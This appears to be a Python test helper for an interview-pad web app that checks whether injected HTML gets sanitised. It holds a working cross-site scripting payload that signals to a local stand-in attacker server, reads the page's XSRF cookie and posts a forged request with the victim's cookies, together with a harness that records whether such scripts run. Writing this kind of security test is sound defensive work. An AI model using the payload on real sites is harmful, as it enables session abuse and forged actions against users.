"""A web server of the attacker's: a request to it is a word that got out."""

from __future__ import annotations

import json
import threading
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType


def payload(name: str, url: str) -> str:
    """Script that shows in four ways that it ran: a mark on the page, a word to the canary, a
    dialog, and a new interview made with the interviewer's cookies.

    It holds no quotes, angle brackets or line ends, so that it fits anywhere.

    Arguments:
        name: of the attack.
        url: the canary's.
    """
    return (
        f"window.owned=`{name}`;"
        f"new Image().src=`{url}/{name}`;"
        f"fetch(`/interview/api/pads`,{{method:`POST`,headers:{{[`X-XSRFToken`]:"
        f"(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}},"
        f"body:JSON.stringify({{title:`{name}`}})}});"
        f"alert(`{name}`)"
    )


class Canary:
    """Listens on a port of its own and remembers the path of each request."""

    def __enter__(self) -> Canary:
        self.heard = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    heard: list[str]

    def of(self, name: str) -> list[str]:
        """The requests that an attack made."""
        return [path for path in self.heard if path.startswith(f"/{name}")]

    def answer(self, path: str) -> tuple[str, str]:
        """The media type and text of the answer to a request."""
        return "text/html", ""

    def posted(self, path: str, body: bytes, cookies: SimpleCookie, token: str) -> None:
        """Somebody posted something here."""

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.heard.append(self.path)
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.command == "POST":
                    cookies = SimpleCookie(self.headers.get("Cookie", ""))
                    canary.posted(self.path, body, cookies, self.headers.get("X-XSRFToken", ""))
                media_type, text = canary.answer(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", media_type)
                self.send_header("Content-Length", str(len(text.encode())))
                if self.path.startswith(PAGES):
                    self.send_header("Set-Cookie", "_xsrf=token; Path=/")
                    self.send_header("Set-Cookie", "session=secret; Path=/; HttpOnly")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(text.encode())

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args: object) -> None:
                """What was asked for stands in `heard`."""

        return Handler


PAGES = "/unprotected/"

# Shows each page in a frame of the same origin, with all rights but to open dialogs, which would
# wait for somebody. Clicks what is to be clicked, and tells when a script has left its mark.
WATCHER = """<!DOCTYPE html><title>watcher</title><script>
const shown = new Set(), marked = new Set();
function marks(window, name) {
  try { if (window.owned === name) return true; } catch { return false; }
  return [...Array(window.length).keys()].some(number => marks(window[number], name));
}
async function look() {
  for (const {name, click} of await (await fetch("/pages.json")).json()) {
    let frame = document.getElementById(name);
    if (!frame) {
      frame = document.createElement("iframe");
      frame.id = name;
      frame.sandbox = "allow-scripts allow-same-origin allow-forms allow-popups";
      frame.src = `/unprotected/${name}`;
      if (click) {
        frame.onload = () => frame.contentDocument.querySelector(click)?.click();
      }
      document.body.append(frame);
    }
    if (!marked.has(name) && marks(frame.contentWindow, name)) {
      marked.add(name);
      fetch(`/mark/${name}`, {method: "POST"});
    }
  }
  setTimeout(look, 50);
}
addEventListener("DOMContentLoaded", look);
</script><body>"""


class Unprotected(Canary):
    """A site that shows whatever it is given as it is, and notes what comes of that.

    A browser process of its own looks at it, which nobody drives: pages that send it elsewhere
    keep nobody waiting.
    """

    def __init__(self) -> None:
        self._pages: dict[str, tuple[str, str]] = {}
        self._traces: dict[str, set[str]] = {}

    def show(self, name: str, body: str, click: str = "") -> None:
        """Have the browser look at a page.

        Arguments:
            name: of the attack.
            body: HTML.
            click: selector of what has to be clicked.
        """
        self._traces[name] = set()
        self._pages[name] = (body, click)

    def traces(self, name: str) -> set[str]:
        """How one can see, without asking the page, that an attack works there."""
        return self._traces[name] | ({"word"} if self.of(name) else set())

    def answer(self, path: str) -> tuple[str, str]:
        if path == "/pages.json":
            pages = [{"name": name, "click": click} for name, (_, click) in self._pages.items()]
            return "application/json", json.dumps(pages)
        if path.startswith(PAGES):
            name = path.removeprefix(PAGES)
            return "text/html", f"<!DOCTYPE html><body>{self._pages[name][0]}"
        return "text/html", WATCHER if path == "/" else ""

    def posted(self, path: str, body: bytes, cookies: SimpleCookie, token: str) -> None:
        if path.startswith("/mark/"):
            self._traces[path.removeprefix("/mark/")].add("mark")
        elif path == "/interview/api/pads":
            # As the interview server has it: with the cookies, and the token that scripts can read.
            said = {name: morsel.value for name, morsel in cookies.items()}
            if said == {"session": "secret", "_xsrf": token}:
                self._traces[json.loads(body)["title"]].add("interview")
